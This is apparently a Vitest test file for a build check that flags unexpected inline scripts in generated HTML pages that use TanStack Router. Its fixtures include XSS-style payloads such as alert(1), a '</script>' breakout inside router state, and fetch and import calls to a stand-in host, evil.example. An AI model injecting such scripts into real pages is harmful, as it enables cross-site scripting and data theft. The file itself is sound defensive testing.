import { describe, expect, it } from 'vitest'
import { scanPage } from './csp.ts'
import { expectedScripts, joinStreamParts, unexpectedScripts } from './inline-scripts.ts'
import { unexpectedScriptReport } from './hosting-postbuild.ts'

const OWN = { 'language detection on /': '(function(e){if(location.pathname!==`/`)return})({"rootRedirect":"/promo"})' }
const SCROLL =
  '(function(a,f){let l;try{l=JSON.parse(sessionStorage.getItem(a)||"{}")}catch{return}scrollTo(0,0)})("tsr-scroll-restoration-v1_3");document.currentScript.remove()'
const START = '(self.$R=self.$R||{})["tsr"]=[];self.$_TSR={h(){this.hydrated=!0,this.c()},buffer:[]}'
const STATE = '$_TSR.router=($R=>$R[0]={matches:$R[1]=[$R[2]={i:"__root__#",b:$R[3]={title:"\\x3C/script>"}}]})($R["tsr"])'
const END =
  "{let s=document.currentScript,p;while((p=s.previousElementSibling)&&p.hasAttribute('data-tsr-stream-part'))p.remove();s.remove()}"
const BOUNDARY = 'document.currentScript.remove();/*$tsr-stream-boundary*/'
const STREAM_END = '($R=>$R[38].return(void 0))($R["tsr"]);$_TSR.e();document.currentScript.remove()'

const page = (body: string) =>
  `<!DOCTYPE html><html><head><script>${OWN['language detection on /']}</script></head><body>${body}</body></html>`
const part = (text: string) => `<script data-tsr-stream-part="">${text}</script>`
const script = (text: string) => `<script>${text}</script>`
const ROUTER = `${script(SCROLL)}${part(`${START};${STATE};${END}`)}${script(BOUNDARY)}${script(STREAM_END)}`
const unexpected = (html: string) => unexpectedScripts(scanPage(html).scripts, expectedScripts(OWN)).map((s) => s.text)

describe('the inline scripts the build accepts', () => {
  it("accepts the site's own scripts and TanStack Router's, and skips data blocks and external scripts", () => {
    expect(
      unexpected(
        page(`${ROUTER}<script type="application/ld+json">{"a":1}</script><script type="module" src="/assets/x-AbCd1234.js"></script>`),
      ),
    ).toEqual([])
  })

  it('accepts the router state split over several consecutive parts', () => {
    expect(unexpected(page(`${part(START)}${part(STATE)}${part(END)}${script(BOUNDARY)}`))).toEqual([])
    const joined = joinStreamParts(scanPage(page(`${part(START)}${part(STATE)}${part(END)}`)).scripts)
    expect(joined.map((s) => s.text)).toEqual([OWN['language detection on /'], `${START};${STATE};${END}`])
  })

  it('fails on any other script, however small', () => {
    expect(unexpected(page(`${ROUTER}${script('alert(1)')}`))).toEqual(['alert(1)'])
    expect(unexpected(page(`${ROUTER}<script type="text/javascript">fetch("//evil.example")</script>`))).toEqual([
      'fetch("//evil.example")',
    ])
    expect(unexpected(page(`${ROUTER}<script type="module">import "//evil.example/x.js"</script>`))).toEqual([
      'import "//evil.example/x.js"',
    ])
  })

  it('fails on an own script whose text changed (its hash would allow the change)', () => {
    const changed = page(ROUTER).replace('"/promo"', '"//evil.example"')
    expect(unexpected(changed)).toHaveLength(1)
  })

  it('fails when a value broke out of the router state', () => {
    // An unescaped `</script>` in the state ends the element early: neither piece has the shape.
    const broken = page(part(`${START};$_TSR.router=($R=>$R[0]={t:"</script><script>alert(1)</script>"})($R["tsr"]);${END}`))
    const found = unexpected(broken)
    expect(found.length).toBeGreaterThanOrEqual(2)
    expect(found).toContain('alert(1)')
  })

  it('fails on a script that only pretends to be a stream part or the scroll script', () => {
    expect(unexpected(page(part('alert(1)')))).toEqual(['alert(1)'])
    expect(
      unexpected(page(script('alert(1);(function(a,f){})("tsr-scroll-restoration-v1_3");document.currentScript.remove()'))),
    ).toHaveLength(1)
    expect(unexpected(page(script(`${START};alert(1);${END}`)))).toHaveLength(1)
  })
})

describe('unexpectedScriptReport', () => {
  it('names the page and shows the start of each unexpected script', () => {
    expect(
      unexpectedScriptReport('de/promo.html', scanPage(page(`${ROUTER}${script(`alert("${'x'.repeat(300)}")`)}`)).scripts, OWN),
    ).toEqual([`de/promo.html: ${JSON.stringify(`alert("${'x'.repeat(150)}...`)}`])
  })
})
